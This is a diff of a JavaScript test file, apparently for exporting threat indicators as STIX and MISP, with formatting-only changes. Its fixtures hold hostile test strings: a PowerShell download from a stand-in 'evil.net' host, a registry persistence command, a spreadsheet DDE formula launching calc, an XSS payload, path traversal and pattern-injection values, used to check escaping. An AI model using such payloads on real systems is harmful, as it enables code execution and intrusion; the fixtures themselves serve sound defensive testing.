@@ -19,7 +19,7 @@ const TEXTS = [
   "Enable-PSRemoting; iwr ('http://ev'+'il.net:8080/a.ps1') -UserAgent 'b/1'; ping 10.9.8.7; ping 2a00::1",
   `Enable-PSRemoting; if ($h -eq '${SHA256}') { & 'C:\\Users\\x\\a.exe' }; reg add HKLM\\Software\\Evil\\Run`,
   "Enable-PSRemoting; mail a@evil.net; \\\\.\\pipe\\evil; Cert:\\CurrentUser\\My\\DA39A3EE5E6B4B0D3255BFEF95601890AFD80709",
-  '=cmd|\'/c calc\'!A1\r\nEnable-PSRemoting </script><img src=x onerror=alert(1)> "\u202e\u0085 \u{e0041}',
+  "=cmd|'/c calc'!A1\r\nEnable-PSRemoting </script><img src=x onerror=alert(1)> \"\u202e\u0085 \u{e0041}",
   "Enable-PSRemoting # '] OR [url:value = 'x",
 ];
 const COMPUTERS = ["FS03.corp.example", "../../etc/passwd", "=HYPERLINK(1)", "CON", "a\\b/c:d"];
@@ -45,7 +45,12 @@ function exported(t, format, ...words) {
   return readFileSync(output);
 }
 
-const lines = (bytes) => bytes.toString().trimEnd().split("\n").map((line) => JSON.parse(line));
+const lines = (bytes) =>
+  bytes
+    .toString()
+    .trimEnd()
+    .split("\n")
+    .map((line) => JSON.parse(line));
 
 function assertValid(validate, value) {
   assert.ok(validate(value), JSON.stringify(validate.errors?.slice(0, 5)));
@@ -89,7 +94,8 @@ test("every object of the STIX bundle is valid, and its references are in it", (
   ])
     assert.ok(patterns.includes(pattern), `${pattern} is not among ${patterns.join("\n")}`);
   // A pattern has no quotation mark that its value brought.
-  for (const pattern of patterns) assert.match(pattern, /^\[[^=]+= '(?:[^'\\]|\\.)*'(?: AND [^=]+= '(?:[^'\\]|\\.)*')?\]$/);
+  for (const pattern of patterns)
+    assert.match(pattern, /^\[[^=]+= '(?:[^'\\]|\\.)*'(?: AND [^=]+= '(?:[^'\\]|\\.)*')?\]$/);
 });
 
 test("the MISP event is valid, and its types are of their categories", (t) => {
